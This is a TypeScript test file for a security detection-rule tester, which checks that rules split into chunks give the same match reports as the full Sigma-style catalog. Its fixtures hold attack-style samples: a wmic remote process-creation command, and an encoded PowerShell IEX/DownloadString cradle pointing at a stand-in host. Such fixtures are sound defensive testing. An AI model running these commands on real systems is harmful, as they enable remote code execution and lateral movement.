import { existsSync } from "node:fs"
import { gzipSync } from "node:zlib"

import { describe, expect, it } from "vitest"

import { contentRoots, loadCatalog } from "../catalog/load.node.ts"
import type { Detection } from "../model/types.ts"
import { builtGateSources } from "./inputs.ts"
import { matchEvent, type MatchReport } from "./match.ts"
import { chunksFor, restoreIds, skippedOf, testerChunks, withSkipped } from "./rules-chunks.ts"
import { compileTesterRules, testerRules, type TesterRule } from "./rules-data.ts"
import { preparedPasted, prepareTester, preparedSources } from "./run.ts"
import { EMPTY_FORM, type TesterForm } from "./form.ts"

const strip = (r: MatchReport) => JSON.parse(JSON.stringify(r, (k, v) => (k === "path" ? undefined : v))) as unknown

/** What the worker does: the chunks the form needs, compiled, the report counted over all rules. */
function chunkedReports(detections: Detection[], forms: TesterForm[]) {
  const { manifest, files } = testerChunks(testerRules(detections))
  const full = compileTesterRules(JSON.parse(JSON.stringify(testerRules(detections))))
  return forms.map((form) => {
    const prepared = prepareTester(form)
    if (!prepared.ok) throw new Error(prepared.error)
    const needed = chunksFor(manifest, preparedSources(prepared), preparedPasted(prepared))
    const rows = needed.flatMap((c) => restoreIds(JSON.parse(files.get(c.file)!) as TesterRule[]))
    const part = compileTesterRules(rows)
    const skipped = skippedOf(manifest, new Set(needed.map((c) => c.file)))
    return {
      needed: needed.map((c) => c.name),
      chunked: prepared.inputs.map((x) => strip(withSkipped(matchEvent(part, x.input), skipped))),
      whole: prepared.inputs.map((x) => strip(matchEvent(full, x.input))),
    }
  })
}

const CMD = { ...EMPTY_FORM, cmd: 'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"', user: "bob" }
const PS = {
  ...EMPTY_FORM,
  cmd: `powershell -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "utf16le").toString("base64")}`,
}
const EVENT = {
  ...EMPTY_FORM,
  mode: "event" as const,
  event:
    '{"Image": "C:\\\\Windows\\\\System32\\\\wbem\\\\WMIC.exe", "CommandLine": "wmic /node:x process call create y"}',
}
const SYSMON = {
  ...EMPTY_FORM,
  mode: "event" as const,
  event:
    '<Event><System><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><EventData><Data Name="Image">C:\\w\\wmic.exe</Data><Data Name="CommandLine">wmic /node:x process call create y</Data></EventData></Event>',
}

describe("tester rule chunks", () => {
  it("a report over the chunks an input needs equals the report over every rule", () => {
    for (const r of chunkedReports(loadCatalog().detections, [CMD, PS, EVENT, SYSMON]))
      expect(r.chunked).toEqual(r.whole)
  })
  it("restores the leaf ids it leaves out", () => {
    const rows = testerRules(loadCatalog().detections)
    const { files } = testerChunks(rows)
    const back = [...files.values()].flatMap((t) => restoreIds(JSON.parse(t) as TesterRule[]))
    const byId = new Map(rows.map((r) => [r.id, r]))
    for (const r of back) expect(r).toEqual(JSON.parse(JSON.stringify(byId.get(r.id))))
  })
})

const CORPORA = ["../shared/corpora/security_content", "../shared/corpora/sigma"]
describe.skipIf(!CORPORA.every((p) => existsSync(p)))("tester rule chunks on both corpora", () => {
  it("a command line fetches at most 500 KB gzipped, and gets the same report as over every rule", () => {
    const detections = loadCatalog({ roots: contentRoots(CORPORA.join(",")) }).detections
    const { manifest, files } = testerChunks(testerRules(detections))
    const needed = chunksFor(manifest, [builtGateSources()], false)
    const gz = needed.reduce((s, c) => s + gzipSync(files.get(c.file)!).length, 0)
    const all = manifest.chunks.reduce((s, c) => s + gzipSync(files.get(c.file)!).length, 0)
    console.log(
      `tester chunks: ${manifest.chunks.length}; a command line needs ${needed.map((c) => c.name).join(", ")}: ${(gz / 1024).toFixed(0)} KB gz of ${(all / 1024).toFixed(0)} KB gz`,
    )
    expect(gz).toBeLessThanOrEqual(500 * 1024)
    const [r] = chunkedReports(detections, [CMD])
    expect(r!.chunked).toEqual(r!.whole)
  }, 180_000)
})
